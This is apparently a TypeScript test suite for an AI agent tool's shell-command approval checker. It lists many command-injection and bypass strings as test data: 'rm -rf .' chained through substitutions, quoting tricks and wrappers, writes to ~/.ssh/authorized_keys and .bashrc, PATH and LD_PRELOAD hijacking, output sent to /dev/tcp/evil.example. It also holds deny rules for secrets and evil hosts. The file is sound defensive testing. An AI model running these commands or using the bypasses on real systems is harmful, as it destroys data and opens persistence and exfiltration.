import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { ApprovalDecision, ApprovalRule } from "../../../shared/contract/approval.ts";
import type { ShellKind } from "./commands/command-line.ts";
import { evaluateCall } from "./evaluate-call.ts";

const tool = { name: "runCommand", description: "", inputSchema: {}, approval: "ask" as const };

type Facet = Pick<ApprovalRule, "command"> | Pick<ApprovalRule, "path"> | Pick<ApprovalRule, "host">;

let ids = 0;
const rule = (decision: ApprovalDecision, facet: Facet): ApprovalRule => ({
  id: `r${++ids}`,
  decision,
  tool: "runCommand",
  scope: "always",
  ...facet,
});
const allow = (...commands: readonly string[]) => commands.map((command) => rule("allow", { command }));
const deny = (...commands: readonly string[]) => commands.map((command) => rule("deny", { command }));

function decide(command: string, rules: readonly ApprovalRule[], shell: ShellKind = "posix"): ApprovalDecision {
  return evaluateCall({ tool, participant: "ann", input: { command }, teamId: "t" }, rules, { shell }).decision;
}

/** An expansion in braces; written out, the linter would report a template string without backticks. */
const braced = (expansion: string): string => `\${${expansion}}`;

const ALLOWED = allow("git status", "npm test *");

describe("commands that a rule allows", () => {
  const fine = [
    "git status",
    "  git   status  ",
    "git status # what is new?",
    "git 'status'",
    'g"it" stat\\us',
    "git \\\nstatus",
    "npm test",
    "npm test -- --watch=false src/a.test.ts",
    "npm test src/*.test.ts",
    "npm test -- $EXTRA",
    "npm test 2>&1",
    "npm test >/dev/null 2>&1 </dev/null",
    "git status && npm test",
    "git status; npm test; git status",
    "git status\nnpm test\n",
    "git status | npm test -",
    "git status || git status",
    "git status & npm test",
    "(git status; npm test)",
    "{ git status; npm test; }",
    "! git status",
    "if git status; then npm test; else git status; fi",
    "while git status; do npm test x; done",
    "npm test -- $(git status)",
    'npm test -- "$(git status)" `git status`',
    'npm test "src/$(git status)"',
    "time git status",
    "nohup npm test",
    "timeout 30 npm test",
    "command git status",
    "env git status",
    "sh -c 'git status && npm test'",
    "bash -lc 'npm test x'",
    "/bin/sh -ec 'git status'",
    "sh -c \"sh -c 'git status'\"",
    "git status | xargs -0 -n 1 npm test --",
  ];
  for (const command of fine) it(`${JSON.stringify(command)}`, () => assert.equal(decide(command, ALLOWED), "allow"));
});

describe("a command that tries to slip past an allow rule needs approval", () => {
  const smuggled: Readonly<Record<string, readonly string[]>> = {
    "further words": [
      "git status --porcelain -uall",
      "git statusx",
      "git",
      "npm tests",
      "npm",
      "git status $X",
      "git status *",
    ],
    "words that may expand to options": [
      "npm test $EXTRA",
      'npm test "$EXTRA"',
      "npm test src/$EXTRA",
      "npm test *",
      "npm test {a,b}",
      "npm test --$EXTRA",
      'npm test "-$EXTRA"',
      'npm test "x$@"',
      "npm test $(git status)",
      "npm test `git status`",
      "git status | xargs npm test",
    ],
    "another command after it": [
      "git status; rm -rf .",
      "git status && rm -rf .",
      "git status || rm -rf .",
      "git status | rm -rf .",
      "git status & rm -rf .",
      "git status |& rm -rf .",
      "git status\nrm -rf .",
      "git status;\\\nrm -rf .",
      "git status #\nrm -rf .",
      "git status # \\\nrm -rf .",
      "npm test \\\\\nrm -rf .",
      "npm test 'a\\'; rm -rf . #'",
      'npm test "a\\\\"; rm -rf . #"',
      "npm test '\n';rm -rf .",
    ],
    "another command before it": [
      "rm -rf .; git status",
      "cd /tmp/evil && git status",
      "alias git=rm; git status",
      ". ./env; git status",
      "set -- x; git status",
      "hash -p ./evil git; git status",
    ],
    substitutions: [
      "npm test $(rm -rf .)",
      'npm test "$(rm -rf .)"',
      "npm test `rm -rf .`",
      'npm test "`rm -rf .`"',
      "npm test $(git status; rm -rf .)",
      "npm test $(git status $(rm -rf .))",
      "npm test `git status \\`rm -rf .\\``",
      // Both shells take the backslashes off before they run what is in the backticks.
      `npm test "\`npm test \\"'\\"; rm -rf .; npm test \\"'\\"\`"`,
      'npm test "`npm test "x"`"',
      "npm test <(rm -rf .)",
      "npm test >(rm -rf .)",
      `npm test ${braced("X:-$(rm -rf .)")}`,
      `npm test ${braced("X@P")}`,
      `npm test ${braced("X:=`rm -rf .`")}`,
      "npm test $(( $(rm -rf .) ))",
      "npm test $[$(rm -rf .)]",
      "X=$(rm -rf .) npm test",
      "npm test 2>$(rm -rf .)",
      "(git status; rm -rf .)",
      "{ git status; rm -rf .; }",
      "npm test $(git status # )\nrm -rf .)",
    ],
    "quotes that shells read differently": [
      "npm test $'a\\'; rm -rf . #'",
      "npm test $'x'",
      'npm test $"x"',
      "npm test 'unclosed",
      'npm test "unclosed',
      "npm test \\",
    ],
    "the command's name": [
      "./git status",
      "/tmp/bin/git status",
      "$GIT status",
      `${braced("GIT")} status`,
      "g?t status",
      "{git,status}",
      "~/git status",
      "`git` status",
      "GIT status",
      "git​ status",
      "git\u00a0status",
      "npm test x\u00a0rm",
      "npm test x\r",
      "npm test \u202egnp",
      "git status\r",
      "git\u2028status",
    ],
    environment: [
      "PATH=. git status",
      "LD_PRELOAD=./x.so git status",
      "GIT_PAGER='rm -rf .' npm test",
      "PATH=.; git status",
      "env PATH=. git status",
      "env -S 'rm -rf .' git status",
      "export PATH=.; git status",
      "a[$(rm -rf .)]=1 git status",
      "A+=x git status",
    ],
    redirections: [
      "git status > .bashrc",
      "git status >> ~/.ssh/authorized_keys",
      "git status >| x",
      "npm test 2> err",
      "git status &> x",
      "git status &>/dev/null rm -rf .",
      "git status &>/dev/null npm test",
      "git status >& x",
      "npm test < /etc/passwd",
      "git status > $F",
      "git status <> x",
      "> x",
      "{ git status; } > x",
      "(git status) > x",
      "npm test 12>/dev/null",
      "npm test <<EOF\n$(rm -rf .)\nEOF",
      "npm test <<'EOF'\nx\nEOF\nrm -rf .",
      "npm test <<< x",
      "git status >/dev/tcp/evil.example/80",
    ],
    wrappers: [
      "sudo git status",
      "sh -c 'rm -rf .'",
      'sh -c "git status; rm -rf ."',
      "sh -c $X",
      "sh - -c 'git status'",
      'sh -c "git status $(rm -rf .)"',
      "bash -ic 'git status'",
      "bash --rcfile ./evil -c 'git status'",
      "bash -O extglob -c 'git status'",
      "./sh -c 'git status'",
      "zsh -c 'git status'",
      "sh",
      "sh script.sh",
      "git status | sh",
      "eval git status",
      "eval 'git status'",
      'eval "$X"',
      "trap 'git status' EXIT",
      "exec rm -rf .",
      "command rm -rf .",
      "command -p git status",
      "builtin eval git status",
      "time rm -rf .",
      "time -o log git status",
      "time { rm -rf .; }",
      "nohup rm -rf .",
      "timeout 5 rm -rf .",
      "timeout -s KILL 5 git status",
      "nice -n 5 rm -rf .",
      "git status | xargs rm",
      "git status | xargs git status",
      "git status | xargs -I{} sh -c {}",
      "git status | xargs sh -c",
      "git status | xargs",
      "find . -exec git status \\;",
      "watch git status",
      "ssh host git status",
      "npx git status",
    ],
    "unsupported syntax": [
      "for f in a; do git status; done",
      "case x in x) git status;; esac",
      "git() { rm -rf .; }; git status",
      "function git { rm -rf .; }; git status",
      "[[ -f x ]] && git status",
      "(( x )) && git status",
      "coproc git status",
      "select x in a; do git status; done",
      "git status )",
      "(git status",
      `${"(".repeat(40)}git status${")".repeat(40)}`,
    ],
    nothing: ["", " ", "#", "# git status", "X=1", "!", "&"],
  };
  for (const [what, commands] of Object.entries(smuggled)) {
    for (const command of commands) {
      it(`${what}: ${JSON.stringify(command)}`, () => assert.equal(decide(command, ALLOWED), "ask"));
    }
  }
});

describe("a command that runs another needs a rule for both", () => {
  it("find with -exec, by one rule for each", () => {
    const command = "find . -name x -exec git status {} + -exec npm test \\;";
    assert.equal(decide(command, allow("find *")), "ask");
    assert.equal(decide(command, allow("find *", "git status *")), "ask");
    assert.equal(decide(command, allow("find *", "git status *", "npm test")), "allow");
  });

  it("a plus that does not end an -exec is a word of its command", () => {
    assert.equal(decide("find . -exec git status + --evil {} \\;", allow("find *", "git status")), "ask");
  });

  it("find that deletes or writes, or has arguments known only at run time, needs approval", () => {
    for (const command of ["find . -delete", "find . -fprint x", "find $X"])
      assert.equal(decide(command, allow("find *")), "ask");
  });

  it("sudo, by a rule for it and one for its command, or by one rule with exactly these words", () => {
    assert.equal(decide("sudo apt update", allow("sudo *")), "ask");
    assert.equal(decide("sudo apt update", allow("sudo *", "apt update")), "allow");
    assert.equal(decide("sudo apt update", allow("sudo apt update")), "allow");
    assert.equal(decide("sudo -u root apt update", allow("sudo *", "apt update")), "ask");
    assert.equal(decide("sudo -u root apt update", allow("sudo -u root apt update")), "allow");
  });

  it("no command rule allows eval, not even one with exactly its words", () => {
    assert.equal(decide("eval 'git status'", allow("eval *", "eval 'git status'", "git status")), "ask");
  });

  it("assignments are words of the command", () => {
    assert.equal(decide("CI=1 npm test", allow("CI=1 npm test")), "allow");
    assert.equal(decide("CI=2 npm test", allow("CI=1 npm test")), "ask");
    assert.equal(decide("CI=1 time npm test", allow("time *", "npm test")), "ask");
  });
});

describe("redirections", () => {
  const rules = [...ALLOWED, rule("allow", { path: "dist/**" })];
  const decisions: Readonly<Record<string, ApprovalDecision>> = {
    "git status > dist/log.txt": "allow",
    "git status 2>> ./dist/a/../log.txt": "allow",
    "npm test < dist/in > dist/out": "allow",
    "git status > dist/../.bashrc": "ask",
    "git status > /dist/x": "ask",
    "git status > ~/dist/x": "ask",
    "git status > src/x": "ask",
    "git status > dist/$X": "ask",
    "git status > 'dist\\log.txt'": "ask",
    "git status > 'x\\..\\dist\\log.txt'": "ask",
    "> dist/x": "ask",
    "rm x > dist/x": "ask",
  };
  for (const [command, decision] of Object.entries(decisions)) {
    it(`${command}: ${decision}`, () => assert.equal(decide(command, rules), decision));
  }

  it("after cd a relative path needs approval, and an absolute one does not", () => {
    const moving = [...rules, ...allow("cd *"), rule("allow", { path: "/tmp/x" })];
    assert.equal(decide("cd /etc && git status > dist/passwd", moving), "ask");
    assert.equal(decide("cd /etc && git status > /tmp/x", moving), "allow");
  });

  it("in a command that find runs in the folder of each file, a relative path needs approval", () => {
    const finding = [...rules, ...allow("find *")];
    assert.equal(decide("find . -exec sh -c 'git status > dist/x' \\;", finding), "allow");
    for (const option of ["-execdir", "-okdir"])
      assert.equal(decide(`find . ${option} sh -c 'git status > dist/x' \\;`, finding), "ask");
  });

  it("the folder to run in needs a path rule", () => {
    const call = { tool, participant: "ann", teamId: "t" };
    const at = (cwd: string) =>
      evaluateCall({ ...call, input: { command: "git status", cwd } }, rules, { shell: "posix" }).decision;
    assert.equal(at("."), "allow");
    assert.equal(at("dist/app"), "allow");
    assert.equal(at("evil"), "ask");
    assert.equal(at("../dist"), "ask");
  });

  it("a link is judged by its target", () => {
    const realPath = (path: string) => (path.startsWith("/w/dist/link") ? "/home/ann/.ssh/keys" : path);
    const places = { roots: [{ label: "w", path: "/w" }], realPath };
    const call = { tool, participant: "ann", teamId: "t", input: { command: "git status > dist/link/keys" } };
    assert.equal(evaluateCall(call, rules, { shell: "posix", places }).decision, "ask");
  });

  it("a command rule does not cover further fields of the input", () => {
    const call = { tool, participant: "ann", teamId: "t", input: { command: "git status", env: { PATH: "." } } };
    assert.equal(evaluateCall(call, ALLOWED, { shell: "posix" }).decision, "ask");
  });
});

describe("commands that a rule denies", () => {
  const rules = [rule("allow", { command: "*" }), ...deny("rm", "git push --force", "curl * evil")];
  const denied = [
    "rm",
    "rm -rf .",
    "/bin/rm x",
    "../../bin/rm x",
    "RM x",
    "rm.exe x",
    "r''m x",
    "r\\m x",
    '"rm" x',
    "FOO=1 rm x",
    "git status; rm x",
    "git status | xargs rm",
    "xargs -I{} rm {}",
    "npm test $(rm x)",
    "npm test `rm x`",
    "cat <(rm x)",
    "sh -c 'rm x'",
    "bash -ic 'cd y; rm x'",
    "zsh -c 'rm x'",
    "sudo -u root rm x",
    "env -i A=1 rm x",
    "timeout -s KILL 5 rm x",
    "find . -exec rm {} \\;",
    "find $X -exec rm {} \\;",
    "eval 'rm x'",
    "eval rm x",
    "trap 'rm x' EXIT",
    "ssh host rm x",
    "ssh host 'cd y; rm x'",
    "su -c 'rm x'",
    "systemd-run --user rm x",
    "ssh host 'sudo rm x'",
    "for f in a; do rm $f; done",
    "f() { rm x; }; f",
    "case x in x) rm y;; esac",
    "cat <<EOF\nx\nEOF\nrm x",
    "sh <<EOF\nrm x\nEOF",
    "if true; then rm x; fi",
    "$CMD x",
    "$(echo rm) x",
    "r$M x",
    "/bin/r? x",
    "echo 'unclosed; rm x",
    "git push --force",
    "git push origin main --force",
    "git -C . push --force",
    "git --no-pager push --force",
    "git push $WHAT",
    "git $WHAT",
    "curl -s -o x evil",
    "rm x &>/dev/null",
  ];
  for (const command of denied) it(JSON.stringify(command), () => assert.equal(decide(command, rules), "deny"));

  const others = [
    "git status",
    "echo rm",
    "grep rm x",
    "git push origin",
    "git log push",
    "rmdir x",
    "git commit -m 'push it'",
    "npm run rm-all",
    "cat rm",
  ];
  for (const command of others) it(`not ${command}`, () => assert.equal(decide(command, rules), "allow"));

  it("whatever the number of words before it", () => {
    for (const padding of ["x ".repeat(5000), "-x ".repeat(600), "a=1 ".repeat(4000)]) {
      assert.equal(decide(`sudo ${padding}rm x`, rules), "deny");
    }
    assert.equal(decide(`git ${"-x ".repeat(600)}push --force`, rules), "deny");
    assert.equal(decide(`git push ${"x ".repeat(5000)} --force`, rules), "deny");
    assert.equal(decide("(".repeat(9000), rules), "ask");
  });

  it("a path in a command's words or redirections", () => {
    const secrets = [rule("allow", { command: "*" }), rule("deny", { path: ".env" })];
    for (const command of [
      "cat .env",
      "cat ./a/.env",
      "cat < .env",
      "cat --file=.env",
      "cat /w/.ENV",
      "echo > x/../.env",
    ])
      assert.equal(decide(command, secrets), "deny", command);
    assert.equal(decide("cat .envrc", secrets), "allow");
  });

  it("a host in a command's words", () => {
    const rules = [rule("allow", { command: "*" }), rule("deny", { host: "*.evil.example" })];
    for (const command of [
      "curl https://a.evil.example/x",
      "curl a.evil.example:8080",
      "ssh me@a.EVIL.example",
      "curl http://good@a.evil.example",
    ])
      assert.equal(decide(command, rules), "deny", command);
    assert.equal(decide("curl https://good.example", rules), "allow");
  });
});

describe("on Windows, with the syntax of cmd.exe", () => {
  const rules = allow("git status", "npm test *");
  const decisions: Readonly<Record<string, ApprovalDecision>> = {
    "git status": "allow",
    "npm test src\\a.test.ts": "allow",
    "git status & del x": "ask",
    "npm test '& del x &'": "ask",
    "npm test ^& del x": "ask",
    "npm test %X%": "ask",
    "npm test --script-shell x": "ask",
    "npm test !X!": "ask",
    "npm test > x": "ask",
    'npm test "a" b': "ask",
    "npm test\ndel x": "ask",
    "cmd /c git status": "ask",
    "call git status": "ask",
    "git,status": "ask",
  };
  for (const [command, decision] of Object.entries(decisions)) {
    it(`${JSON.stringify(command)}: ${decision}`, () => assert.equal(decide(command, rules, "cmd"), decision));
  }

  it("a deny rule finds its words anywhere in the line", () => {
    for (const command of ["del x", "git status & DEL x", "cmd /c del x", 'npm test "& del x"', "del.exe x", "d^el x"])
      assert.equal(decide(command, [...rules, ...deny("del")], "cmd"), "deny", command);
  });
});

describe("a call that a rule allows but for its options says so", () => {
  const reasons: Readonly<Record<string, string>> = {
    "git status; git log --output=x":
      'The rule "RULE" does not allow this call: with --output=x the program may run or write something else.',
    "git log $X": 'The rule "RULE" does not allow this call: $X may expand to an option.',
    "python -u":
      'The rule "RULE" does not allow this call: the program would run what it reads from its standard input.',
    "git diff": "The tool runCommand needs the user's approval, and no rule allows this call.",
  };
  for (const [command, expected] of Object.entries(reasons)) {
    it(command, () => {
      const rules = allow("git log *", "python *", "git status");
      const call = { tool, participant: "ann", input: { command }, teamId: "t" };
      const { decision, reason } = evaluateCall(call, rules, { shell: "posix" });
      assert.equal(decision, "ask");
      assert.equal(reason.replace(/"[^"]*"/, '"RULE"'), expected);
    });
  }
});
